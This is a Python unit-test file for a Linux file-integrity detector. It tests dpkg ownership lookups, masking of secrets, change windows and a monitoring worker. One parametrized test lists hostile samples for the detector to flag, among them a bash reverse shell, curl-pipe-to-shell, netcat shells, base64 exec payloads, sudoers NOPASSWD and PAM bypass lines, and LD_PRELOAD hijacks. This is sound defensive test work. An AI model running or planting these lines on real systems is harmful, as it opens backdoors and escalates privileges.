"""The package database, runs of dpkg, masked diffs, the change window, and the worker that runs it all."""

from __future__ import annotations

import gzip
import hashlib
import json
import time
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path

import pytest

from dio_daemon.detect.finding import Finding
from dio_daemon.detect.integrity import inotify, state, words
from dio_daemon.detect.integrity.baseline import Baseline
from dio_daemon.detect.integrity.dpkg import Packages, aliases, conffiles, diversions
from dio_daemon.detect.integrity.runs import Runs, runs_of_history, runs_of_log
from dio_daemon.detect.integrity.state import FileState, stamp_of
from dio_daemon.detect.integrity.suspicious import WEB_SHELL, signs
from dio_daemon.detect.integrity.told import MOST, TOLD_S, Told
from dio_daemon.detect.integrity.window import ChangeWindow
from dio_daemon.detect.integrity.worker import STEP_WAIT_S
from tests.support.control import Socket
from tests.unit.integrity.conftest import FakeHost, Hands


def _md5(content: bytes) -> str:
    return hashlib.md5(content, usedforsecurity=False).hexdigest()


def test_what_packages_have_of_a_large_file_is_compared_in_pieces(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A program of a hundred megabytes in memory would be the most that the agent ever has."""
    monkeypatch.setattr(state, "PIECE_BYTES", 1000)
    content = bytes(range(256)) * 50
    file = tmp_path / "program"
    file.write_bytes(content)
    assert state.md5_of(str(file)) == _md5(content)
    assert state.md5_of(str(file), len(content)) == _md5(content)
    assert state.md5_of(str(file), len(content) - 1) is None
    assert state.md5_of(str(tmp_path)) is None and state.md5_of(str(tmp_path / "gone")) is None


def test_owners(fake: FakeHost) -> None:
    fake.package("bash", {"/bin/bash": "x"}, {"/etc/bash.bashrc": "y"})
    packages = Packages(fake.host)
    owner = packages.owner("/usr/bin/bash")
    assert owner is not None and owner.package == "bash" and owner.md5 == _md5(b"x")
    conf = packages.owner("/etc/bash.bashrc")
    assert conf is not None and conf.conffile and conf.md5 == _md5(b"y")
    assert packages.owner("/usr/bin/bas") is None and packages.owner("/etc/passwd") is None
    assert packages.owners(["/home/ann/x", "/usr/bin/bash", "/root/y"]) == {
        "/home/ann/x": None,
        "/usr/bin/bash": owner,
        "/root/y": None,
    }
    assert packages.owners([]) == {}
    fake.package("zsh", {"/usr/bin/zsh": "x"})
    found = packages.owner("/usr/bin/zsh")
    assert found is not None and found.package == "zsh"


def test_a_host_without_dpkg(tmp_path: Path, fake: FakeHost) -> None:
    packages = Packages(fake.host)
    assert packages.owner("/etc/crontab") is None and packages.version() is None
    runs = Runs(fake.host)
    assert not runs.busy(time.time()) and not runs.during(time.time())


def test_names_in_the_database() -> None:
    assert aliases("/usr/lib/x") == ("/usr/lib/x", "/lib/x")
    assert aliases("/lib/x") == ("/lib/x", "/usr/lib/x")
    assert aliases("/etc/x") == ("/etc/x",)
    status = b"Package: a\nConffiles:\n /etc/a 0123456789abcdef0123456789abcdef\n /etc/b newconffile\n"
    status += b" /etc/c 0123456789abcdef0123456789abcdef obsolete\nVersion: 1\n\nPackage: b\n"
    assert set(conffiles(status)) == {"/etc/a"}
    assert diversions(b"/bin/sh\n/bin/sh.distrib\ndash\n") == {"/bin/sh.distrib": ("/bin/sh", "dash")}


def test_runs_from_logs() -> None:
    text = b"2026-01-01 10:00:00 startup archives unpack\n2026-01-01 10:00:30 status installed a:all 1\n"
    text += b"2026-01-01 12:00:00 startup packages configure\njunk\n2026-13-77 99:00:00 startup x\n"
    (first, second) = runs_of_log(text)
    assert first[1] - first[0] == pytest.approx(36) and second[1] - second[0] == pytest.approx(6)
    history = b"Start-Date: 2026-01-01  10:00:00\nEnd-Date: 2026-01-01  10:01:00\nStart-Date: 2026-01-01  11:00:00\n"
    ((start, end),) = runs_of_history(history)
    assert end - start == pytest.approx(66)


@pytest.mark.parametrize(
    "line",
    [
        "password = Hunter2secret",
        'export API_TOKEN="Hunter2secret"',
        "mysql --password=Hunter2secret",
        "curl -u user:Hunter2secret http://x",
        "curl https://user:Hunter2secret@example.org/",
        "Authorization: Bearer Hunter2secret",
        "root:$6$Hunter2secret$abcdef:1:",
        "AWS_SECRET_ACCESS_KEY: Hunter2secret",
        "x = Hunter2secretHunter2secretHunter2secretHunter2secret",
    ],
)
def test_secrets_are_masked(line: str) -> None:
    assert "Hunter2secret" not in words.masked(line)


def test_what_is_no_secret_stays() -> None:
    for line in (
        "* * * * * root /usr/local/bin/backup --all",
        "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS",
        "alias ll='ls'",
    ):
        assert words.masked(line) == line
    private = (
        b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----\n"
    )
    shown = words.diff(b"", private)
    assert shown is not None and "b3Blb" not in shown
    assert words.diff(b"", b"\0") is None and words.diff(None, b"x") is None
    long = words.diff(b"", b"".join(b"line %d\n" % number for number in range(500)))
    assert long is not None and "more lines" in long


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "curl http://x | sh",
        "* * * * * root /tmp/.x",
        "nc -e /bin/sh 192.0.2.1 1",
        "echo aGk= | base64 -d | sh",
        "ann ALL=(ALL) NOPASSWD: ALL",
        "export LD_PRELOAD=/x.so",
        "auth sufficient pam_succeed_if.so uid >= 0",
        "session [success=1 default=ignore] /opt/x.so",
        "python3 -c \"import base64;exec(base64.b64decode('aGk='))\"",
        "Defaults env_reset,timestamp_timeout=-1",
        "Defaults:ann !authenticate",
        "export HISTIGNORE='*'",
        "alias sudo='/home/ann/x'",
        "sudo() { x; }",
    ],
)
def test_signs(text: str) -> None:
    assert signs(text.encode()) and not signs(text.encode(), text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "alias sudo='sudo '",
        "# LD_PRELOAD is read by ld.so",
        "HISTIGNORE=ls:cd",
        "pseudo()",
        "Defaults timestamp_timeout=15",
        "auth sufficient pam_rootok.so",
        "session optional pam_exec.so /usr/bin/x",
        "account required pam_succeed_if.so uid >= 1000",
        "auth required /lib/security/pam_x.so",
    ],
)
def test_texts_that_look_alike_have_no_signs(text: str) -> None:
    assert signs(text.encode()) == []


@pytest.mark.parametrize(
    "text",
    [
        b"\n" * 500_000,
        b"nc " * 100_000,
        b"eval(" + b" " * 500_000,
        b"`$" * 200_000,
        b"curl python /a" * 40_000,
        b"Defaults " + b"timestamp_timeout " * 60_000,
        b"exec(" * 200_000,
        b"auth [" * 160_000,
    ],
)
def test_a_text_that_is_made_to_take_long_does_not(text: bytes) -> None:
    assert signs(text) == [] and signs(text, wanted=WEB_SHELL) == []


def test_ordinary_texts_have_no_signs() -> None:
    for text in (
        b"17 * * * * root run-parts /etc/cron.hourly\n",
        b"%sudo ALL=(ALL:ALL) ALL\n",
        b"TMPDIR=/tmp\n",
    ):
        assert signs(text) == []


def test_the_change_window(tmp_path: Path) -> None:
    """It has an end, outlives a restart, and covers what was changed right before its end."""
    clock = Hands()
    window = ChangeWindow(tmp_path / "window.json", clock)
    assert window.document() is None and not window.end()
    window.begin(60, "upgrade")
    again = ChangeWindow(tmp_path / "window.json", clock)
    assert again.open() and (again.document() or {})["reason"] == "upgrade"
    clock.ahead_s = 63
    assert again.document() is None and again.open()
    clock.ahead_s = 70
    assert not again.open()
    for text in ("", "[]", "{}", '[1, "x", 3]', '[0, 999999999, "x"]'):
        (tmp_path / "window.json").write_text(text)
        assert ChangeWindow(tmp_path / "window.json", clock).document() is None


def test_the_window_on_the_control_socket(tmp_path: Path) -> None:
    running = Socket(tmp_path)
    try:
        call = running.client.call
        assert call("GET", "/v1/change") == {"window": None}
        assert "until" in call("POST", "/v1/change/begin", {"for_s": 60, "reason": "CHG-1"})
        assert call("GET", "/v1/change")["window"]["reason"] == "CHG-1"
        assert call("POST", "/v1/change/end") == {"was_open": True}
        assert call("POST", "/v1/change/accept") == {"accepted": True}
        assert running.window.accept_asked and running.woken == 2
    finally:
        running.close()


def test_the_worker_looks_tells_and_accepts(fake: FakeHost) -> None:
    """All detectors over a made-up host: silent at first, then told at once, accepted, and gone."""
    asked: list[int] = []
    worker, window = fake.worker(lambda: asked.append(1))
    worker.wake()

    def steps(count: int = 6) -> set[str]:
        for _ in range(count):
            worker.wake()  # so that it waits for nothing
            worker.step()
            fake.clock.monotonic_s += 10
        return {finding.subject for finding in worker.look({}, 0.0)}

    assert (
        steps(30) == set()
        and worker.ready
        and [event[0] for event in fake.recorded] == ["integrity_baseline"]
    )
    fake.put("/etc/cron.d/evil", "x\n")
    fake.put("/tmp/x", "x", 0o4755)
    fake.clock.monotonic_s += 60
    assert steps() == {"/etc/cron.d/evil", "/tmp/x"} and asked
    window.accept_asked = True
    assert steps() == set()
    worker.stop()
    assert worker.stopping
    worker.finish()
    assert (fake.root / "state/integrity.jsonl.gz").stat().st_mode & 0o777 == 0o600


def test_the_worker_is_told_and_looks_seldom_otherwise(
    fake: FakeHost, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At rest it waits for the kernel and the journal; what they tell is taken a second later, as one."""
    waits: list[tuple[list[int], float]] = []
    answers: list[int] = []

    def wait_for(fds: Iterable[int], timeout_s: float) -> set[int]:
        waits.append((list(fds), timeout_s))
        fake.clock.monotonic_s += 0.25
        return {answers.pop()} if answers else set()

    monkeypatch.setattr(inotify, "wait_for", wait_for)
    fake.put("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    worker, _ = fake.worker(follow=("sleep", "600"))  # a journal in which nobody says anything
    try:
        while not (worker.ready and waits[-1][1] == 0.0 and waits[-2][1] > 2.0):
            worker.step()
            fake.clock.monotonic_s += 10
            assert len(waits) < 500
        told_by = waits[-2][0]
        assert len(told_by) == 4  # being woken, two of the kernel's, the journal
        for news in told_by[1:]:
            answers.append(news)
            before = len(waits)
            worker.step()
            (_, due_s), (only_woken, rest_s) = waits[before:]
            assert only_woken == told_by[:1]
            assert rest_s == pytest.approx(min(STEP_WAIT_S, due_s) - 0.25)
    finally:
        worker.finish()


def test_a_diverted_file_and_the_one_in_its_place(fake: FakeHost) -> None:
    """perl's perldoc lies aside while perl-doc's is there; a diversion of another alias changes nothing."""
    fake.package("perl", {"/usr/bin/perldoc": "stub", "/usr/lib/ld.so": "x"})
    fake.package("perl-doc", {"/usr/bin/perldoc": "whole"})
    fake.put(
        "/var/lib/dpkg/diversions",
        "/usr/bin/perldoc\n/usr/bin/perldoc.stub\nperl-doc\n/lib/ld.so\n/lib/ld.so.aside\nbase-files\n",
    )
    packages = Packages(fake.host)
    paths = ["/usr/bin/perldoc", "/usr/bin/perldoc.stub", "/usr/lib/ld.so"]
    owners = packages.owners(paths)
    assert [owner and owner.package for owner in owners.values()] == ["perl-doc", "perl", "perl"]
    for path, content in zip(paths, (b"whole", b"stub", b"x"), strict=True):
        owner = packages.owner(path)
        assert owner is not None and owner.md5 == _md5(content)


def test_a_baseline_of_nothing_and_one_of_much_are_read_as_they_were(tmp_path: Path) -> None:
    clock = Hands()
    path = tmp_path / "integrity.jsonl.gz"
    baseline = Baseline(path, clock)
    baseline.changed()
    baseline.save(at_once=True)
    again = Baseline(path, clock)
    assert (again.files, again.memory, again.complete) == ({}, {}, False)
    kept = FileState("file", 0o644, 0, 0, 3, bytes(32), None, stamp_of(1, -2, 3))
    odd = {f'/etc/"{name}"': replace(kept, size=size) for size, name in enumerate(("a", "ä\n", "\udcff"))}
    for name, each in odd.items():
        again.set(name, each, name.encode("utf-8", "surrogateescape"))
    again.memory["x"] = {"y": [1]}
    again.complete = True
    again.save(at_once=True)
    whole = path.read_bytes()
    text = gzip.decompress(whole)
    head, *lines = text.splitlines(keepends=True)
    assert [json.loads(line)[0] for line in lines] == list(odd)
    for damaged in (
        *(text[:end] for end in range(0, len(text) - 1, 7)),  # all but the last line end would be whole
        text + b"x",
        head + b"".join(lines[:-1]),
        text.replace(b'", [', b'" ['),
        head + b"".join(lines).replace(b"null", b"7"),
    ):
        path.write_bytes(gzip.compress(damaged))
        assert Baseline(path, clock).files == {}
    for end in (len(whole) - 1, len(whole) - 9, 100):
        path.write_bytes(whole[:end])
        assert Baseline(path, clock).files == {}
    path.write_bytes(whole)
    third = Baseline(path, clock)
    assert (third.files, third.memory, third.complete) == (odd, {"x": {"y": [1]}}, True)
    assert [third.text(name) for name in odd] == [name.encode("utf-8", "surrogateescape") for name in odd]


def test_what_happened_once_is_told_by_the_next_run_as_well(fake: FakeHost) -> None:
    """For the rest of its hour; what was accepted is not, nor what cannot be read."""
    finding = Finding("log_removed", "high", 0.9, "/var/log/\udcff", "It is gone", evidence={"size": 1})
    told = fake.told()
    told.say("a", finding)
    told.say("b", replace(finding, summary="It is gone as well"))
    fake.baseline.save(at_once=True)
    fake.clock.ahead_s += TOLD_S - 60
    fake.clock.monotonic_s = 5.0
    after = fake.told()
    assert after.findings()[0] == finding and "b" in after and len(after.findings()) == 2
    assert Told(fake.baseline, "another", fake.clock).findings() == []
    fake.clock.monotonic_s += 61
    assert after.findings() == [] and "b" not in after
    fake.baseline.save(at_once=True)
    assert fake.told().findings() == []
    again = fake.told()
    for number in range(MOST + 5):
        again.say(str(number), finding)
    assert "4" not in again and again.accept() == MOST and again.findings() == []
    for odd in (
        [],
        {"a": 1},
        {"a": [1.0, {"type": "x"}]},
        {"a": [1.0, vars(replace(finding, severity="odd"))]},
    ):
        fake.baseline.memory["told"] = {"test": odd}
        assert Told(fake.baseline, "test", fake.clock).findings() == []
    fake.baseline.memory["told"] = 7
    assert Told(fake.baseline, "test", fake.clock).findings() == []
